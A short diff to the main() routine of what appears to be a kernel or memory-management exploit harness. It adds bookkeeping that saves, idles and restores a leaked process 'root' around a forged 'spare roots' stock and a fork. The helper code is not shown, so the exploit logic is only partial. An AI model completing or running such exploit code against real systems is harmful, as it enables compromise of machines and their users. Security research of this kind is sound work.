@@ -42,16 +42,19 @@ static void entries_write(const struct bw_leak *leak, bool are_there)
 
 int main(void)
 {
+	struct attack_frame_books books;
 	struct bw_leak leak;
 	uint64_t before;
 	pid_t child;
 
 	attack_begin(&leak, 1, 0);
 	entries_read(&leak);
+	attack_frame_books_read(&leak, leak.root_first, &books);
 	attack_say("the first process's root is 0x%lx; the stock at 0x%lx has it for an empty one",
 		   leak.root_first, leak.spare_roots.slots);
-	before = attack_stock_forge(&leak.spare_roots, leak.root_first);
 	entries_write(&leak, false);
+	attack_frame_books_idle_root(&books);
+	before = attack_stock_forge(&leak.spare_roots, leak.root_first);
 	child = fork();
 	if (child == 0) {
 		sleep(ASLEEP_S);
@@ -65,6 +68,7 @@ int main(void)
 	}
 	/* with the child the root went back to the stock */
 	attack_stock_replace(&leak.spare_roots, leak.root_first, before);
+	attack_frame_books_restore(&books);
 	entries_write(&leak, true);
 	return attack_finish();
 }
